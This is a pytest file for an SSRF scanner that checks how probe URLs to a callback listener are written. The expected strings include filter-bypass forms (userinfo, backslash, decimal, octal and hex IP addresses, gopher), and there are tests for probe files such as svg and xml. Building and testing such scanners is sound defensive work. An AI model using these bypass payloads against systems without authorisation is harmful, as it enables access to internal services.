import base64
import ipaddress
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from secrecon.detect.ssrf_files import KINDS, file_of, kinds_for
from secrecon.detect.ssrf_payloads import (
    CARRIES_ON,
    LAST,
    REDIRECTS,
    SCHEMES,
    WORDS,
    Bypass,
    Technique,
    bypass_of,
    bypasses,
    listener_at,
    numbers_of,
    redirecting,
    value_for,
)
from secrecon.model.asset import InputPlace, Parameter
from secrecon.model.interaction import Payload
from secrecon.model.target import Origin
from secrecon.oast.answers import answer_for, hops
from secrecon.oast.tokens import find_tokens

TOKEN = "abcdefghij0123456789" + "nonce67890123"
HOST = f"{TOKEN}.cb.test"
OWN = Origin("http", "fetch.acme.test", 8080)
LISTENER = Origin("http", "203.0.113.7", 8880)
SEEN = Parameter("url", InputPlace.QUERY, "http://static.acme.test:8080/logo.txt")


def payload(named: bool = True, technique: str = "direct") -> Payload:
    url = f"http://{HOST}:8880/" if named else f"http://203.0.113.7:8880/{TOKEN}"
    return Payload(
        TOKEN,
        url,
        HOST if named else "",
        "scan",
        "ssrf.callback",
        str(OWN),
        "GET /f query:url",
        technique,
        "",
        "",
        1.0,
    )


def every(named: bool = True) -> tuple[Bypass, ...]:
    return bypasses(SEEN, OWN, 2, named=named, numbers=tuple(numbers_of(LISTENER, "")))


@pytest.mark.parametrize("named", [True, False])
def test_every_way_of_writing_the_address_still_carries_the_token(named: bool) -> None:
    tried = every(named)
    assert len(tried) == len(set(tried))
    more = [Bypass(t) for t in (*SCHEMES, Technique.MARKUP, Technique.DIRECT, Technique.SHARED)]
    for bypass in (*tried, *more):
        assert TOKEN in find_tokens(value_for(bypass, payload(named), SEEN, LISTENER)), bypass
    techniques = {bypass.technique for bypass in tried}
    assert (Technique.PREFIX_DOMAIN in techniques) is named
    assert Technique.SUBDOMAIN not in techniques, "a whole address is no part of one"
    part = Parameter("host", InputPlace.QUERY, "static")
    of_part = {bypass.technique for bypass in bypasses(part, OWN, 2, named=named, numbers=())}
    assert (Technique.SUBDOMAIN in of_part) is named
    assert set(WORDS) == set(Technique)


def test_the_addresses_as_written() -> None:
    def written(technique: Technique, trusted: str = "static.acme.test:8080") -> str:
        return value_for(Bypass(technique, trusted), payload(), SEEN, LISTENER)

    assert written(Technique.DIRECT) == f"http://{HOST}:8880/"
    assert written(Technique.SCHEME_RELATIVE) == f"//{HOST}:8880/"
    assert written(Technique.BARE_HOST) == f"{HOST}:8880"
    assert written(Technique.EXTENSION) == f"http://{HOST}:8880/probe.txt"
    assert written(Technique.USERINFO) == f"http://static.acme.test:8080@{HOST}:8880/"
    assert written(Technique.PREFIX_DOMAIN) == f"http://static.acme.test.{HOST}:8880/"
    rest = "static.acme.test:8080"
    assert written(Technique.IN_REST) == f"http://{HOST}:8880/{rest}?{rest}#{rest}"
    assert written(Technique.BACKSLASH) == f"http://{HOST}:8880\\@{rest}/"
    assert written(Technique.BACKSLASH_USERINFO) == f"http://{rest}\\@{HOST}:8880/"
    assert written(Technique.FRAGMENT_USERINFO) == f"http://{HOST}:8880#@{rest}/"
    assert written(Technique.ENCODED) == f"http%3A%2F%2F{HOST}%3A8880%2F"
    assert written(Technique.AT) == f"@{HOST}:8880/"
    assert written(Technique.SUBDOMAIN) == f".{HOST}:8880/"
    assert written(Technique.CUT) == f"{HOST}:8880/?"
    assert written(Technique.DECIMAL) == f"http://3405803783:8880/{TOKEN}"
    assert written(Technique.HEXADECIMAL) == f"http://0xcb007107:8880/{TOKEN}"
    assert written(Technique.OCTAL) == f"http://031300070407:8880/{TOKEN}"
    assert written(Technique.MAPPED) == f"http://[::ffff:203.0.113.7]:8880/{TOKEN}"
    assert written(Technique.GOPHER).startswith(f"gopher://{HOST}:8880/_GET%20/{TOKEN}%20")
    assert written(Technique.FTP) == f"ftp://{HOST}:8880/"


def test_the_address_stands_where_the_value_had_one() -> None:
    def written(value: str) -> str:
        return value_for(Bypass(Technique.DIRECT), payload(), Parameter("p", InputPlace.QUERY, value))

    assert written('{"a":1,"u":"http://x.test/y"}') == f'{{"a":1,"u":"http://{HOST}:8880/"}}'
    assert written("w=1,src=https://x.test/y,h=2") == f"w=1,src=http://{HOST}:8880/,h=2"
    assert base64.b64decode(written("aHR0cDovL3gudGVzdC9hL2I=")).decode() == f"http://{HOST}:8880/"
    assert written("plain") == f"http://{HOST}:8880/"


def test_the_trusted_hosts_are_the_example_and_the_target_itself() -> None:
    trusted = [b.trusted for b in every() if b.technique is Technique.USERINFO]
    assert trusted == ["static.acme.test:8080", "fetch.acme.test:8080"]


def test_unlikely_inputs_and_quick_scans_get_fewer() -> None:
    weak = bypasses(Parameter("page", InputPlace.QUERY, "x"), OWN, 0, named=True, numbers=(Technique.DECIMAL,))
    quick = bypasses(SEEN, OWN, 0, named=True, numbers=(Technique.DECIMAL,), quick=True)
    assert Technique.DECIMAL not in {b.technique for b in (*weak, *quick)}
    assert len(quick) < len(every()) > len(weak)


@given(st.integers(0, 2**32 - 1))
def test_no_number_can_be_read_as_somebody_elses_address(number: int) -> None:
    """Not by whoever takes octal digits for decimal ones, nor by whoever reads the host as a name."""
    address = str(ipaddress.IPv4Address(number))
    for technique, url in numbers_of(Origin("http", address, 80), TOKEN).items():
        host = urlsplit(url).hostname or ""
        if technique is Technique.OCTAL:
            assert int(host, 8) == number
            assert int(host, 10) >= 2**32
        elif technique is Technique.MAPPED:
            assert ipaddress.IPv6Address(host).ipv4_mapped == ipaddress.IPv4Address(number)
        else:
            assert int(host, 0) == number
            assert "." not in host


def test_a_listener_without_an_ipv4_address_has_no_numbers() -> None:
    assert numbers_of(None, TOKEN) == {}
    assert numbers_of(Origin("http", "cb.test", 80), TOKEN) == {}
    assert numbers_of(Origin("http", "2001:db8::1", 80), TOKEN) == {}
    assert listener_at("") is None
    assert listener_at("not an origin") is None
    assert listener_at("http://203.0.113.7:8880") == LISTENER


def test_redirects_stay_at_the_end_of_what_carries_on() -> None:
    for technique in CARRIES_ON - {Technique.ENCODED}:
        value = value_for(Bypass(technique, "static.acme.test"), redirecting(payload()), SEEN)
        assert value.endswith("/" + REDIRECTS), technique


def test_a_technique_is_read_back_from_its_payload() -> None:
    assert bypass_of(payload(technique="trusted-userinfo a:80")) == Bypass(Technique.USERINFO, "a:80")
    assert bypass_of(payload(technique="no-such-thing")) is None


def test_files_refer_to_the_listener_only() -> None:
    for kind in KINDS:
        made = file_of(kind, payload())
        text = made.content.decode("ascii")
        assert TOKEN in text
        hosts = {urlsplit(word.strip("\"'<>")).hostname for word in text.replace("=", " ").split() if "://" in word}
        assert {host for host in hosts if host} <= {HOST, "www.w3.org"}


def test_a_form_gets_the_files_that_it_takes() -> None:
    assert kinds_for("") == KINDS
    assert kinds_for("image/*") == ("svg", "svg-entity")
    assert kinds_for("application/xml,.xml") == ("svg", "xml")
    assert kinds_for("video/*") == ("playlist",)
    assert kinds_for(".zip") == ()


def test_the_listener_redirects_for_these_paths_to_itself() -> None:
    assert hops(301, 302, 303, 307, 308) == REDIRECTS
    path, seen = f"/{REDIRECTS}", []
    while (answer := answer_for(path, (TOKEN,), "mark")).location:
        seen.append(answer.status[:3])
        assert answer.location.startswith("/")
        path = answer.location
    assert seen == ["301", "302", "303", "307", "308"]
    assert path == f"/{LAST}"
